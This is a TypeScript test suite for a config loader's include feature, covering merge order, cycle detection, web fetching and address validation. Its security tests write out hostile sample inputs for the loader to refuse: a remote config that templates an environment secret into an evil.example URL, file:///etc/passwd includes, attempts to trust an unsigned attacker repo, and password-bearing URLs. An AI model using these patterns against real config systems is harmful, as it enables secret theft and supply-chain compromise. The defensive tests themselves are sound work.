// Includes: what they add, who wins, and that they end.
import assert from 'node:assert/strict'
import { symlink } from 'node:fs/promises'
import { join } from 'node:path'
import { test } from 'node:test'
import { pathToFileURL } from 'node:url'
import type { OctoConfig } from '../../../config/model/config.ts'
import { expectCodeAsync } from '../../support/assertions/expect-code.ts'
import { readConfig } from '../../support/builders/read-configs.ts'
import { readFiles, writeConfigFiles } from '../../support/machine/config-files.ts'

const check = (tool: string) => `{tool: ${tool}}`
const health = (tools: string) => `operator: {services: {web: {health: [${tools}]}}}\n`
const tools = (config: OctoConfig) => config.services[0]?.checks.health.map((item) => item.request.plugin)

test('lists grow from the lowest document to the highest and plain values come from the highest', async (t) => {
  const files = {
    'a.yaml': `name: a\ninclude: [b.yaml, {url: ./d.yaml}]\n${health(check('a'))}`,
    'b.yaml': `name: b\ninclude: [c.yaml]\n${health(check('b'))}`,
    'c.yaml': `name: c\n${health(check('c'))}`,
    'd.yaml': `name: d\n${health(check('d'))}`,
    'e.yaml': `name: e\n${health(check('e'))}`,
  }
  const config = await readFiles(t, files, { named: ['a.yaml', 'e.yaml'] })
  assert.equal(config.name, 'a')
  assert.deepEqual(tools(config), ['e', 'd', 'c', 'b', 'a'])
  assert.deepEqual(
    config.files.map((file) => file.slice(-6)),
    ['a.yaml', 'b.yaml', 'c.yaml', 'd.yaml', 'e.yaml'],
  )
})

test('a plain value hides a list of the same name in a lower document, whatever the list holds', async (t) => {
  const args = health('{tool: x, args: ["{{.configs.web.tools}}"]}')
  const files = {
    'octo.yaml': `include: [b.yaml]\nconfigs: {web: {tools: none}}\n${args}`,
    'b.yaml': 'configs: {web: {tools: [{tool: saw}]}}\n',
  }
  assert.deepEqual((await readFiles(t, files)).services[0]?.checks.health[0]?.arguments.value, ['none'])
})

test('every check keeps the file and line where it was written', async (t) => {
  const files = { 'octo.yaml': `include: [b.yaml]\n${health(check('a'))}`, 'b.yaml': `\n\n${health(check('b'))}` }
  const config = await readFiles(t, files)
  const places = config.services[0]?.checks.health.map(({ place }) => [place.file.slice(-6), place.line])
  assert.deepEqual(places, [
    ['b.yaml', 3],
    ['o.yaml', 2],
  ])
})

test('a document that two others include is read once', async (t) => {
  const files = {
    'octo.yaml': 'include: [b.yaml, c.yaml]\n',
    'b.yaml': 'include: [d.yaml]\n',
    'c.yaml': 'include: [d.yaml]\n',
    'd.yaml': health(check('d')),
  }
  assert.deepEqual(tools(await readFiles(t, files)), ['d'])
})

test('a circle of includes is an error that shows the circle', async (t) => {
  const files = { 'octo.yaml': 'include: [b.yaml]\n', 'b.yaml': '\ninclude:\n  - url: octo.yaml\n' }
  const error = await expectCodeAsync('CONFIG_INVALID', () => readFiles(t, files))
  assert.match(error.message, /b\.yaml` line 3: includes lead in a circle: .*octo\.yaml` → .*b\.yaml` → .*octo\.yaml`/)
})

test('a web include is fetched, with its own relative includes', async (t) => {
  const asked: string[] = []
  const web: Record<string, string> = {
    'https://x.example/base/a.yaml?template=true': `include: [{url: ../b.yaml}]\n${health(check('a'))}`,
    'https://x.example/b.yaml': health(check('b')),
  }
  const fetchText = async (url: string) => {
    asked.push(url)
    return web[url] ?? assert.fail(url)
  }
  const text = 'include: [{url: "https://x.example/base/a.yaml?template=true"}]\n'
  const config = await readFiles(t, { 'octo.yaml': text }, { fetchText })
  assert.deepEqual(tools(config), ['b', 'a'])
  assert.deepEqual(asked, Object.keys(web))
})

test('an include that names no address, or one with a template, is an error at its line', async (t) => {
  for (const item of [
    '1',
    'true',
    '~',
    '{}',
    '{url: 1}',
    '{url: [a.yaml]}',
    '{url: {a: b}}',
    '[a.yaml]',
    '{ur: a.yaml}',
  ]) {
    const error = await expectCodeAsync('CONFIG_INVALID', () =>
      readFiles(t, { 'octo.yaml': `include:\n  - ${item}\n` }),
    )
    assert.match(error.message, /octo\.yaml` line 2: an include is a map with `url`/, item)
  }
  for (const item of ['"{{.configs.a}}.yaml"', '{url: "https://{{.configs.a}}/a.yaml"}']) {
    const error = await expectCodeAsync('CONFIG_INVALID', () =>
      readFiles(t, { 'octo.yaml': `include:\n  - ${item}\n` }),
    )
    assert.match(error.message, /octo\.yaml` line 2: the address of an include holds no templates/, item)
  }
})

test('a document of a format that octo does not read is refused before it is read or fetched', async (t) => {
  const rows: readonly (readonly [string, string])[] = [
    ['a.ini', '`.ini`'],
    ['a.yaml.bak', '`.bak`'],
    ['folder.yaml/a', 'a name without an end'],
    ['https://x.example/a.txt?as=a.yaml', '`.txt`'],
    ['https://x.example/', 'a name without an end'],
  ]
  for (const [name, found] of rows) {
    const read = () => readFiles(t, { 'octo.yaml': `include: ["${name}"]\n` }, { fetchText: () => assert.fail(name) })
    const error = await expectCodeAsync('CONFIG_INVALID', read)
    assert.ok(
      error.message.endsWith(`expected \`.yaml\`, \`.yml\`, \`.json\` or \`.toml\`, found ${found}`),
      error.message,
    )
    assert.equal(error.hint?.endsWith('/folder.yaml/a/octo.yaml`'), name === 'folder.yaml/a' ? true : undefined)
  }
  const yaml = await expectCodeAsync('JSON_INVALID', () =>
    readFiles(t, { 'a.json': 'name: x\n' }, { named: ['a.json'] }),
  )
  assert.match(yaml.message, /a\.json/)
})

test('an include that is not there, or lies below a file, is an error that names it', async (t) => {
  for (const [name, how] of [
    ['gone.yaml', 'is not there'],
    ['octo.yaml/a.yaml', 'cannot be read'],
  ]) {
    const error = await expectCodeAsync('CONFIG_NOT_FOUND', () => readFiles(t, { 'octo.yaml': `include: [${name}]\n` }))
    assert.match(error.message, new RegExp(`${name}\` ${how}$`))
    assert.match(String(error.details?.reason), /^(ENOENT|ENOTDIR)$/)
  }
})

test('a web include without network is OFFLINE', async (t) => {
  const text = 'include: [{url: "https://x.example/a.yaml"}]\n'
  await expectCodeAsync('OFFLINE', () => readFiles(t, { 'octo.yaml': text }))
})

/** Reads a config whose one include is this web document. */
async function readRemote(t: Parameters<typeof readFiles>[0], remote: string, local = ''): Promise<OctoConfig> {
  const files = { 'octo.yaml': `include: [{url: "https://x.example/a.yaml"}]\n${local}`, 'octo.pub': 'x' }
  return readFiles(t, files, { fetchText: async () => remote, env: { SECRET: 'hunter2' } })
}

test('a web document cannot read environment variables, not even through a value that a local document names', async (t) => {
  const direct = health('{tool: x, args: {url: "https://evil.example/{{.env.SECRET}}"}}')
  const error = await expectCodeAsync('CONFIG_INVALID', () => readRemote(t, direct))
  assert.match(error.message, /may not read the environment variable `SECRET`/)
  assert.doesNotMatch(JSON.stringify(error), /hunter2/)
  const local = health('{tool: x, args: {url: "{{.configs.web.url}}"}}')
  await expectCodeAsync('CONFIG_INVALID', () => readRemote(t, 'configs: {web: {url: "{{.env.SECRET}}"}}\n', local))
  const lure = health('{tool: x, args: {url: "https://evil.example/{{.configs.web.key}}"}}')
  await expectCodeAsync('CONFIG_INVALID', () => readRemote(t, lure, 'configs: {web: {key: "{{.env.SECRET}}"}}\n'))
})

test('a web document cannot lead to local files', async (t) => {
  for (const url of ['file:///etc/passwd.yaml', 'FILE:///etc/x.yaml', 'file://localhost/etc/x.yaml'])
    await expectCodeAsync('CONFIG_INVALID', () => readRemote(t, `include: [{url: "${url}"}]\n`))
  const repo = 'operator: {repos: {core: {url: "file:///tmp/repos/core.yaml"}}}\n'
  await expectCodeAsync('CONFIG_INVALID', () => readRemote(t, repo))
})

test('a web document cannot say which keys are trusted, that none are needed, or where an unsigned repo is', async (t) => {
  const url = 'url: "https://evil.example/repos/core.yaml"'
  for (const trust of ['trust: unsigned', 'keys: [AAAA]', 'keys: [{file: octo.pub}]']) {
    const error = await expectCodeAsync('CONFIG_INVALID', () =>
      readRemote(t, `operator: {repos: {core: {${url}, ${trust}}}}\n`),
    )
    assert.match(
      error.message,
      /x\.example\/a\.yaml` line 1: .* may not write `operator\.repos\.core`.*octo\.yaml` line 1 includes it/,
    )
  }
  const local = 'operator: {repos: {core: {trust: unsigned}}}\n'
  await expectCodeAsync('CONFIG_INVALID', () => readRemote(t, `operator: {repos: {core: {${url}}}}\n`, local))
})

test('a local document may include by file address, and its repos may lie beside it', async (t) => {
  const directory = await writeConfigFiles(t, {
    'b.yaml': 'operator: {repos: {core: {url: ./tree/repos/core.yaml, trust: unsigned}}}\n',
  })
  const main = await writeConfigFiles(t, { 'octo.yaml': `include: ["${pathToFileURL(join(directory, 'b.yaml'))}"]\n` })
  const config = await readConfig(undefined, { cwd: main, env: {} })
  assert.equal(config.repos[0]?.url, pathToFileURL(join(directory, 'tree/repos/core.yaml')).href)
})

test('addresses with passwords are refused without showing them', async (t) => {
  const texts = [
    'include: ["https://me:hunter2@x.example/a.yaml"]\n',
    'operator: {repos: {core: {url: "https://me:hunter2@x.example/repos/core.yaml", trust: unsigned}}}\n',
  ]
  for (const text of texts) {
    const error = await expectCodeAsync('CONFIG_INVALID', () => readFiles(t, { 'octo.yaml': text }))
    assert.doesNotMatch(error.message, /hunter2/)
  }
})

test('devices in place of a config or key file are refused and not read for ever', async (t) => {
  const directory = await writeConfigFiles(t, {
    'octo.yaml': 'include: [device.yaml]\n',
    'keys.yaml': 'operator: {repos: {core: {url: "https://x.example/repos/core.yaml", keys: [{file: device.yaml}]}}}\n',
  })
  await symlink('/dev/null', join(directory, 'device.yaml'))
  const deps = { cwd: directory, env: {} }
  await expectCodeAsync('CONFIG_NOT_FOUND', () => readConfig(undefined, deps))
  const error = await expectCodeAsync('CONFIG_INVALID', () => readConfig('keys.yaml', deps))
  assert.match(error.message, /is not a file/)
})

test('an include that asks for templates, as early configs do, has them filled in, from the web and from a file', async (t) => {
  const theirs = 'services: {web: {health: [{tool: c, args: {x: "{{.configs.port}}{{if .name}}!{{end}}"}}]}}\n'
  const rows = [
    '{url: "https://x.example/b.yaml", template: true}',
    '"https://x.example/b.yaml?template=true"',
    '{url: b.yaml, template: true}',
    '"b.yaml?template=true"',
    '{url: "./b.yaml?template=true", template: yes}',
  ]
  for (const row of rows) {
    const files = { 'octo.yaml': `name: shop\nconfigs: {port: 1}\ninclude: [${row}]\n`, 'b.yaml': theirs }
    const { services, warnings } = await readFiles(t, files, { fetchText: async () => theirs })
    assert.deepEqual(services[0]?.checks.health[0]?.arguments.value, { x: '1!' }, row)
    assert.deepEqual(warnings, [], row)
  }
  const off = { 'octo.yaml': 'include:\n  - {url: b.yaml, template: false}\n', 'b.yaml': theirs }
  const error = await expectCodeAsync('CONFIG_INVALID', () => readFiles(t, off))
  assert.match(
    error.message,
    /octo\.yaml` line 2: templates of a document are filled in wherever values of it are read/,
  )
  assert.match(error.hint ?? '', /noTemplate: true/)
})

test('an include without encryption is warned of, but for this machine itself', async (t) => {
  for (const [host, isWarned] of [
    ['x.example', true],
    ['127.evil.example', true],
    ['localhost.evil.example', true],
    ['127.0.0.1.evil.example:80', true],
    ['127.0.0.1:8080', false],
    ['localhost', false],
    ['localhost:80', false],
    ['[::1]:80', false],
  ] as const) {
    const files = { 'octo.yaml': `include: ["http://${host}/a.yaml"]\n` }
    const { warnings } = await readFiles(t, files, { fetchText: async () => 'configs: {a: 1}' })
    assert.equal(
      warnings.some(({ message }) => message.includes('without encryption')),
      isWarned,
      host,
    )
  }
})

const INCLUDED = 'https://x.example/1.0.0/a.yaml'
const WRONG: readonly (readonly [what: string, said: string, problem: RegExp])[] = [
  ...['gitlab', 'true', '[github]', '{format: gitlab}', '{url: "https://x.example/list"}'].map(
    (versions) => [`versions are \`${versions}\``, `versions: ${versions}`, /`versions` of an include is/] as const,
  ),
  ...[
    'x.example/list',
    'file:///list',
    'ftp://x.example/list',
    '"https://"',
    '[a]',
    '"https://x.example/{{.name}}"',
  ].map(
    (url) =>
      [`versions are listed at \`${url}\``, `versions: {format: octo, url: ${url}}`, /`url` of `versions` is/] as const,
  ),
  ...['gpg', 'sigstore'].flatMap((key) =>
    ['[a]', '{url: a}', '1', '"./{{.name}}.asc"'].map(
      (at) =>
        [`\`${key}\` is \`${at}\``, `${key}: ${at}`, /is the address of a signature, without templates$/] as const,
    ),
  ),
]
for (const [what, said, problem] of WRONG)
  test(`an include is refused whose ${what}`, async (t) => {
    const files = { 'octo.yaml': `include: [{url: "${INCLUDED}", ${said}}]\nname: x\n` }
    const reading = () => readFiles(t, files, { fetchText: async () => 'configs: {a: 1}\n' })
    assert.match((await expectCodeAsync('CONFIG_INVALID', reading)).message, problem)
  })
